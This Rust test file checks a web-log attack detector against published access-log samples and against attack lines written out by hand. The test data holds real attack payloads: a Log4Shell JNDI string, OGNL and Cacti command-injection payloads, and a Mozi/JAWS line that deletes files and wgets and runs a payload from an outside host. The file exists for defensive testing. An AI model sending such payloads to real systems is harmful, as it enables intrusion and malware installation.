//! Tests against the published format samples (never copied into the repository): the
//! folder comes from `LBTOP_FORMATS` (fallback `../shared/formats`).

use super::*;
use crate::parse::lex;
use crate::record::{Format, Request};
use std::borrow::Cow;
use std::path::PathBuf;

fn formats() -> Option<PathBuf> {
    crate::testutil::formats_dir("")
}

/// Quote-aware split of a combined line into its fields: bare words, `[…]` and `"…"`
/// (with `\"` escapes). Test-only; the real parser lives in `crate::parse`.
fn split_combined(line: &str) -> Vec<&str> {
    let b = line.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b' ' => i += 1,
            b'"' => {
                let start = i + 1;
                let mut j = start;
                while j < b.len() && b[j] != b'"' {
                    j += if b[j] == b'\\' { 2 } else { 1 };
                }
                out.push(&line[start..j.min(b.len())]);
                i = j + 1;
            }
            b'[' => {
                let start = i + 1;
                let j = line[start..].find(']').map_or(b.len(), |p| start + p);
                out.push(&line[start..j]);
                i = j + 1;
            }
            _ => {
                let start = i;
                while i < b.len() && b[i] != b' ' {
                    i += 1;
                }
                out.push(&line[start..i]);
            }
        }
    }
    out
}

fn combined(line: &str) -> Option<Request<'_>> {
    let f = split_combined(line);
    if f.len() < 7 {
        return None;
    }
    let rl = lex::request_line(f[4]);
    Some(Request {
        format: Format::Combined,
        client_ip: lex::ip(f[0]),
        method: rl.method.map(Cow::Borrowed),
        path: rl.path.map(Cow::Borrowed),
        query: rl.query.map(Cow::Borrowed),
        protocol: rl.protocol.map(Cow::Borrowed),
        status: lex::status(f[5]),
        referrer: f.get(7).and_then(|s| lex::dash(s)).map(Cow::Borrowed),
        user_agent: f.get(8).and_then(|s| lex::dash(s)).map(Cow::Borrowed),
        ..Request::default()
    })
}

/// Every line of the real semicomplete.com log that hits, and why. All are genuine probes
/// for WordPress/Joomla logins and the FCKeditor upload page on a site that runs neither.
const APACHE_PROBE_LINES: &[(usize, &str)] = &[
    (379, "probe-cms-login"),  // /wp-login.php
    (380, "probe-cms-login"),  // /administrator/index.php
    (893, "probe-cms-login"),  // /wp-login.php
    (894, "probe-cms-login"),  // /administrator/
    (1408, "probe-cms-login"), // /wp-login.php?action=register
    (2170, "probe-cms-login"), // /wordpress/wp-admin/ (and the rest: wp-admin, wp-login, administrator)
    (2192, "probe-cms-login"),
    (2230, "probe-cms-login"),
    (2260, "probe-cms-login"),
    (2525, "probe-cms-login"),
    (2572, "probe-cms-login"),
    (2788, "probe-cms-login"),
    (2827, "probe-cms-login"),
    (3069, "probe-cms-login"),
    (3136, "probe-cms-login"),
    (3137, "probe-cms-login"),
    (3818, "probe-cms-login"),
    (3854, "probe-cms-login"),
    (3892, "probe-cms-login"),
    (3932, "probe-cms-login"),
    (4592, "probe-cms-login"),
    (4667, "probe-cms-login"),
    (4754, "probe-cms-login"),
    (4814, "probe-cms-login"),
    (5006, "probe-cms-login"),
    (5044, "probe-cms-login"),
    (5087, "probe-cms-login"),
    (5116, "probe-cms-login"),
    (5313, "probe-cms-login"),
    (5337, "probe-cms-login"),
    (5447, "probe-cms-login"),
    (5966, "probe-cms-login"),
    (5969, "probe-cms-login"),
    (6251, "probe-cms-login"),
    (6252, "probe-cms-login"),
    (7641, "probe-cms-login"),
    (7745, "probe-cms-login"),
    (7765, "probe-cms-login"),
    (7766, "probe-cms-login"),
    (7903, "probe-cms-login"),
    // HEAD …/ec2-reserved-vs-ondemand.html/{,include/,js/,admin/}fckeditor/…: one scanner.
    (8034, "probe-editor-upload"),
    (8035, "probe-editor-upload"),
    (8036, "probe-editor-upload"),
    (8037, "probe-editor-upload"),
    (8038, "probe-editor-upload"),
    (8039, "probe-editor-upload"),
    (8040, "probe-editor-upload"),
    (8041, "probe-editor-upload"),
    (8571, "probe-cms-login"),
];

#[test]
fn real_apache_log_hits_only_its_probes() {
    let Some(dir) = formats() else {
        println!("skipped: formats folder not found");
        return;
    };
    let text = std::fs::read(dir.join("apache-combined/elastic-examples-apache_logs.log")).unwrap();
    let text = String::from_utf8_lossy(&text);
    let set = RuleSet::builtin();
    let mut got = Vec::new();
    let mut parsed = 0;
    let mut hits = Vec::new();
    for (n, line) in text.lines().enumerate() {
        let Some(r) = combined(line) else { continue };
        parsed += 1;
        hits.clear();
        set.check(&r, &mut hits);
        for h in &hits {
            println!(
                "line {}: {} {} {} {}",
                n + 1,
                h.category.name(),
                h.rule,
                h.field,
                r.request_line()
            );
            got.push((n + 1, h.rule.to_string()));
        }
    }
    assert!(parsed >= 9990, "parsed {parsed}");
    let want: Vec<(usize, String)> = APACHE_PROBE_LINES
        .iter()
        .map(|&(n, r)| (n, r.to_string()))
        .collect();
    assert_eq!(got, want);
}

fn req(method: &str, path: &str, query: Option<&str>, ua: Option<&str>) -> Request<'static> {
    Request {
        format: Format::Alb,
        method: Some(Cow::Owned(method.to_string())),
        path: Some(Cow::Owned(path.to_string())),
        query: query.map(|q| Cow::Owned(q.to_string())),
        protocol: Some(Cow::Borrowed("HTTP/1.1")),
        user_agent: ua.map(|u| Cow::Owned(u.to_string())),
        ..Request::default()
    }
}

fn categories(set: &RuleSet, r: &Request<'_>) -> Vec<(Category, String, &'static str)> {
    let mut hits = Vec::new();
    set.check(r, &mut hits);
    hits.into_iter()
        .map(|h| (h.category, h.rule.to_string(), h.field))
        .collect()
}

const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36";

/// The attack lines of the published samples, written by hand as requests (so this test
/// runs without the samples).
#[test]
fn published_attack_lines() {
    let set = RuleSet::builtin();
    // crowdsec ALB lines 4/11: double-encoded traversal `/%%32%65%%32%65/`.
    let r = req("GET", "/%%32%65%%32%65/", None, Some(CHROME));
    assert_eq!(
        categories(&set, &r),
        vec![(Category::Traversal, "traversal-dotdot".into(), "path")]
    );
    // Lines 5/12: `/.awscfg` with a Log4Shell UA.
    let r = req(
        "GET",
        "/.awscfg",
        None,
        Some("${jndi:ldap://${java:version}.domain/a}"),
    );
    let c = categories(&set, &r);
    assert!(
        c.contains(&(Category::Jndi, "jndi-lookup".into(), "user_agent")),
        "{c:?}"
    );
    assert!(
        c.contains(&(
            Category::SensitiveFile,
            "sensitive-cloud-credentials".into(),
            "path"
        )),
        "{c:?}"
    );
    assert_eq!(c.len(), 2, "{c:?}");
    // Lines 6/13: URL-encoded OGNL in the path.
    let r = req(
        "GET",
        "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/",
        None,
        Some(CHROME),
    );
    let c = categories(&set, &r);
    assert_eq!(
        c,
        vec![(Category::Probe, "probe-ognl-injection".into(), "path")]
    );
    // Lines 7/14: Cacti remote_agent.php command injection.
    let r = req(
        "GET",
        "/remote_agent.php",
        Some(
            "action=polldata&host_id=1&local_data_ids[]=3&poller_id=;ping%20%24%28whoami%29.test.com",
        ),
        Some(CHROME),
    );
    let c = categories(&set, &r);
    assert!(
        c.contains(&(Category::Probe, "probe-cacti-cve-2022-46169".into(), "path")),
        "{c:?}"
    );
    assert!(
        c.contains(&(Category::CommandInjection, "cmdi-chain".into(), "query")),
        "{c:?}"
    );
    assert_eq!(c.len(), 2, "{c:?}");
    // elastic-integrations-test-alb line 2: JAWS/Mozi, space inside the URL.
    let rl = lex::request_line(
        "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1",
    );
    let r = req("GET", rl.path.unwrap(), rl.query, Some("Hello, world"));
    let c = categories(&set, &r);
    assert!(
        c.contains(&(Category::Probe, "probe-mozi-jaws-shell".into(), "path")),
        "{c:?}"
    );
    assert!(
        c.contains(&(Category::CommandInjection, "cmdi-chain".into(), "query")),
        "{c:?}"
    );
    assert_eq!(c.len(), 2, "{c:?}");
    // azure-appgw raw lines 1-2: phpMyAdmin setup probe.
    let r = req(
        "GET",
        "/phpmyadmin/scripts/setup.php",
        Some(
            "X-AzureApplicationGateway-CACHE-HIT=0&SERVER-ROUTED=10.4.0.4&X-AzureApplicationGateway-LOG-ID=874f1f0f-6807-41c9-b7bc-f3cfa74aa0b1&SERVER-STATUS=404",
        ),
        None,
    );
    assert_eq!(
        categories(&set, &r),
        vec![(Category::Probe, "probe-phpmyadmin".into(), "path")]
    );
    // apache test-access-basic line 14: XSS probe as the method of the request line.
    let rl = lex::request_line("<SCRIPT>NXSSTEST</SCRIPT> / HTTP/1.1");
    let r = Request {
        method: rl.method.map(Cow::Borrowed),
        path: rl.path.map(Cow::Borrowed),
        ..Request::default()
    };
    assert_eq!(
        categories(&set, &r),
        vec![(Category::Xss, "xss-script-tag".into(), "method")]
    );
    // crowdsec bad-user-agent lines 2-4: Nikto.
    let r = req(
        "HEAD",
        "/index.html",
        None,
        Some("Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)"),
    );
    assert_eq!(
        categories(&set, &r),
        vec![(Category::ScannerAgent, "scanner-nikto".into(), "user_agent")]
    );
}

/// The other combined-format samples: only test-access-basic line 14 (the NXSSTEST probe in
/// the request line) hits.
#[test]
fn real_combined_samples() {
    let Some(dir) = formats() else {
        println!("skipped: formats folder not found");
        return;
    };
    let set = RuleSet::builtin();
    let mut got = Vec::new();
    for f in [
        "apache-combined/elastic-integrations-test-access-basic.log",
        "nginx-combined/elastic-beats-access.log",
        "nginx-combined/elastic-beats-test.log",
        "nginx-combined/elastic-integrations-test-access.log",
        "apache-common/elastic-beats-darwin-2.4.23.log",
    ] {
        let text = std::fs::read(dir.join(f)).unwrap();
        let text = String::from_utf8_lossy(&text);
        for (n, line) in text.lines().enumerate() {
            let f2 = split_combined(line);
            // Requests are the first quoted field; find it by the `[time]` before it.
            let Some(t) = f2.iter().position(|s| {
                s.contains(':') && s.contains('/') && s.len() >= 20 && s.as_bytes()[2] == b'/'
            }) else {
                continue;
            };
            let Some(&rl) = f2.get(t + 1) else { continue };
            let rl = lex::request_line(rl);
            let r = Request {
                method: rl.method.map(Cow::Borrowed),
                path: rl.path.map(Cow::Borrowed),
                query: rl.query.map(Cow::Borrowed),
                referrer: f2.get(t + 4).and_then(|s| lex::dash(s)).map(Cow::Borrowed),
                user_agent: f2.get(t + 5).and_then(|s| lex::dash(s)).map(Cow::Borrowed),
                ..Request::default()
            };
            let mut hits = Vec::new();
            set.check(&r, &mut hits);
            for h in hits {
                got.push((f.to_string(), n + 1, h.category, h.rule.to_string()));
            }
        }
    }
    assert_eq!(
        got,
        vec![(
            "apache-combined/elastic-integrations-test-access-basic.log".to_string(),
            14,
            Category::Xss,
            "xss-script-tag".to_string()
        )]
    );
}

/// Every ALB sample: the request is the 13th field and the user agent the 14th. Only the
/// README's attack lines hit.
#[test]
fn real_alb_samples() {
    let Some(dir) = formats() else {
        println!("skipped: formats folder not found");
        return;
    };
    let set = RuleSet::builtin();
    let mut got = Vec::new();
    let mut names: Vec<_> = std::fs::read_dir(dir.join("alb"))
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    for name in &names {
        let text = std::fs::read(dir.join("alb").join(name)).unwrap();
        let text = String::from_utf8_lossy(&text);
        for (n, line) in text.lines().enumerate() {
            let f = split_combined(line);
            if f.len() < 14 || !matches!(f[0], "http" | "https" | "h2" | "ws" | "wss") {
                continue;
            }
            let rl = lex::request_line(f[12]);
            let r = Request {
                method: rl.method.map(Cow::Borrowed),
                path: rl.path.map(Cow::Borrowed),
                query: rl.query.map(Cow::Borrowed),
                user_agent: lex::dash(f[13]).map(Cow::Borrowed),
                ..Request::default()
            };
            let mut hits = Vec::new();
            set.check(&r, &mut hits);
            for h in hits {
                got.push(format!(
                    "{name}:{} {} {} {}",
                    n + 1,
                    h.category.name(),
                    h.rule,
                    h.field
                ));
            }
        }
    }
    for g in &got {
        println!("{g}");
    }
    let want = [
        "crowdsec-hub-aws-alb-http-bad-user-agent.log:2 scanner_agent scanner-nikto user_agent",
        "crowdsec-hub-aws-alb-http-bad-user-agent.log:3 scanner_agent scanner-nikto user_agent",
        "crowdsec-hub-aws-alb-http-bad-user-agent.log:4 probe probe-cms-login path",
        "crowdsec-hub-aws-alb-http-bad-user-agent.log:4 scanner_agent scanner-nikto user_agent",
        "crowdsec-hub-aws-alb-logs.log:4 traversal traversal-dotdot path",
        "crowdsec-hub-aws-alb-logs.log:5 sensitive_file sensitive-cloud-credentials path",
        "crowdsec-hub-aws-alb-logs.log:5 jndi jndi-lookup user_agent",
        "crowdsec-hub-aws-alb-logs.log:6 probe probe-ognl-injection path",
        "crowdsec-hub-aws-alb-logs.log:7 probe probe-cacti-cve-2022-46169 path",
        "crowdsec-hub-aws-alb-logs.log:7 command_injection cmdi-chain query",
        "crowdsec-hub-aws-alb-logs.log:11 traversal traversal-dotdot path",
        "crowdsec-hub-aws-alb-logs.log:12 sensitive_file sensitive-cloud-credentials path",
        "crowdsec-hub-aws-alb-logs.log:12 jndi jndi-lookup user_agent",
        "crowdsec-hub-aws-alb-logs.log:13 probe probe-ognl-injection path",
        "crowdsec-hub-aws-alb-logs.log:14 probe probe-cacti-cve-2022-46169 path",
        "crowdsec-hub-aws-alb-logs.log:14 command_injection cmdi-chain query",
        "elastic-integrations-test-alb.log:2 probe probe-mozi-jaws-shell path",
        "elastic-integrations-test-alb.log:2 command_injection cmdi-chain query",
        "vectordotdev-vrl-parse_aws_alb_log.log:12 probe probe-cgi-bin path",
    ];
    assert_eq!(got, want);
}
